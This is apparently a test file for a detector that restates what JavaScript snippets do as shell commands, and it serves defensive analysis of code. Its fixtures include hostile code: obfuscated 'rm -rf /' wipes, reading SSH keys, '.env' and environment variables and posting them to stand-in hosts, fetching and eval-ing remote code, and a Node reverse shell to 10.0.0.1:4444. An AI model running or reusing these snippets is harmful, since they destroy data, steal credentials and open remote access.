import { tell } from '../given_code.js';

describe('javascript: what a program would do is told in words of the shell', () => {
  const cases: [code: string, deeds: string[]][] = [
    [`require('fs').rmSync('/srv', { recursive: true, force: true })`, ['rm -rf /srv']],
    [`const { unlinkSync: gone } = require('node:fs'); gone('/etc/hosts');`, ['rm /etc/hosts']],
    [`import { rm } from 'node:fs/promises'\nawait rm('/a', { recursive: true })`, ['rm -r /a']],
    [`import * as fs from 'fs'; fs.promises.rm('/a')`, ['rm /a']],
    [`import fs, { writeFileSync as put } from 'fs'\nput('x.txt', 'hello')`, ['printf %s hello > x.txt']],
    [`const cp = require("child_process"); cp.execSync("git push --force")`, ['$ git push --force']],
    [`require('child_process').spawn('git', ['reset', '--hard'], { cwd: '/x' })`, ['$ git reset --hard']],
    [`require('child_process').spawn('rm -rf ~', { shell: true })`, ['$ rm -rf ~']],
    [`require('child_' + 'process')['exe' + 'cSync'](\`rm -rf \${'/'}\`)`, ['$ rm -rf /']],
    [
      `const dir = '/srv'; const run = (c) => require('child_process').execSync(c); run(\`rm -rf \${dir}/all\`)`,
      ['$ rm -rf /srv/all'],
    ],
    [
      `eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp', 'base64').toString())`,
      ['$ rm -rf /'],
    ],
    [`eval(atob('cHJvY2Vzcy5raWxsKDEp'))`, ['kill -TERM 1']],
    [`new Function("require('fs').unlinkSync('/x')")()`, ['rm /x']],
    [`process.mainModule.require('child_process').exec('id')`, ['$ id']],
    [`global.process.kill(-1, 'SIGKILL')`, ['kill -KILL -1']],
    [`require('child_process').exec(String.fromCharCode(114,109,32,45,114,102,32,47))`, ['$ rm -rf /']],
    [`require('child_process').exec([114,109].map(c => String.fromCharCode(c)).join('') + ' -rf /')`, ['$ rm -rf /']],
    [`require('child_process').exec('/ fr- mr'.split('').reverse().join(''))`, ['$ rm -rf /']],
    [
      `const fs = require('fs');\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa') })`,
      ['cat /root/.ssh/id_rsa < /root/.ssh/id_rsa', 'curl -X POST -d @/root/.ssh/id_rsa https://x.example'],
    ],
    [
      `const fs = require('fs'); fs.readFile('.env', 'utf8', (err, data) => { axios.post('http://x.example', { data }) })`,
      ['cat .env < .env', 'curl -X POST -d @.env http://x.example'],
    ],
    [
      `fetch('http://h.example/x.js').then(r => r.text()).then(t => eval(t))`,
      ['curl http://h.example/x.js', 'node | curl http://h.example/x.js'],
    ],
    [`['/etc/a'].forEach(require('fs').unlinkSync)`, ['rm /etc/a']],
    [`['/etc/a', '/etc/b'].forEach(f => require('fs').unlinkSync(f))`, ['rm /etc/a /etc/b']],
    [`for (const f of ['/etc/a', 'b']) { require('fs').rmSync(f) }`, ['rm /etc/a b']],
    [
      `const path = require('path'), os = require('os');\nrequire('fs').rmSync(path.join(os.homedir(), '.ssh'), { recursive: true })`,
      ['rm -r ~/.ssh'],
    ],
    [`function wipe(p) { require('fs').rmSync(p, {recursive: true}) }\nwipe('/data')`, ['rm -r /data']],
    [
      `async function main() { const { execa } = await import('execa'); await execa('rm', ['-rf', '/']) }\nmain()`,
      ['$ rm -rf /'],
    ],
    [
      `var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);\nvar client = new net.Socket();\nclient.connect(4444, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); })`,
      ['sh | recv', '$ /bin/sh', 'nc 10.0.0.1 4444', 'nc -e /bin/sh 10.0.0.1 4444'],
    ],
    [`db.dropDatabase()`, ['sql drop-database db']],
    [`db.users.deleteMany({})`, ['sql delete-all db.users']],
    [`await client.query("DELETE FROM users")`, ['sql delete-all users']],
    [
      `class Cleaner { run(p) { require('fs').rmSync(p, { recursive: true }) } }\nnew Cleaner().run('/opt')`,
      ['rm -r /opt'],
    ],
    [`(() => { require('fs').unlinkSync('/a') })()`, ['rm /a']],
    [`import('fs').then(({ rmSync }) => rmSync('/srv', { recursive: true }))`, ['rm -r /srv']],
    [
      `const fs = require('fs'), { globSync } = require('glob'); globSync('a/*').forEach(f => fs.rmSync(f))`,
      ['rm glob(a/*)'],
    ],
    [`for await (const e of Deno.readDir('src')) await Deno.remove(e.name)`, ['rm glob(*)']],
    [
      `const run = require('util').promisify(require('child_process').execFile); run('git', ['clean', '-fdx'])`,
      ['$ git clean -fdx'],
    ],
    [`const all = (...names) => names.forEach(n => require('fs').rmSync(n)); all('/a', '/b')`, ['rm /a /b']],
    [`const { deleteAsync } = require('del'); deleteAsync(['src/**', '!src/a.ts'])`, ['rm -rf glob(src/**)']],
    [`const { deleteAsync } = require('del'); deleteAsync(['src/**'], { dryRun: true })`, []],
    [`const db = require('./src/db'); db('users').del()`, ['sql delete-all rows']],
    [`import { db } from './db'; await db.delete(users)`, ['sql delete-all ./db.db']],
    [`import { db } from './db'; await db.delete(users).where(eq(users.id, 1))`, []],
    [`models.User.destroy({ where: {}, truncate: true })`, ['sql truncate rows']],
    [`const s = require('stripe')(process.env.K); s.customers.del('c')`, ['cloud-sdk del']],
    [
      `fetch('https://h.example', { method: 'POST', body: JSON.stringify(process.env) })`,
      ['curl -X POST -d @- https://h.example | printenv'],
    ],
    [`const f = /rm -rf \\//; require('fs').unlinkSync('x')`, ['rm x']],
  ];
  it.each(cases)('%s', (code, deeds) => {
    expect(tell('javascript', code).deeds).toEqual(deeds);
  });
});

describe('javascript: what is said is not done', () => {
  const cases = [
    `console.log('rm -rf /')`,
    `// require('fs').rmSync('/')\nconst x = 1`,
    `/* eval(atob('x')) */ module.exports = {}`,
    `const text = \`run git push --force\`; console.log(text.length)`,
    `/rm -rf/.test('x') && console.log('found')`,
    `const m = new Map(); m.delete('a'); const s = new Set(); s.delete(1); items.remove(x)`,
    `export function danger() { require('fs').rmSync('/') }`,
    `const a = 4 / 2 / 1; const b = { drop: 'table' }; console.log(b.drop, JSON.stringify({ exec: 'rm' }))`,
    `/a/.exec('rm -rf /')`,
    `console.log(JSON.parse(require('util').inspect({a: 1})))`,
  ];
  it.each(cases)('%s', (code) => {
    expect(tell('javascript', code)).toEqual({ deeds: [], written: [], lines: [] });
  });
});
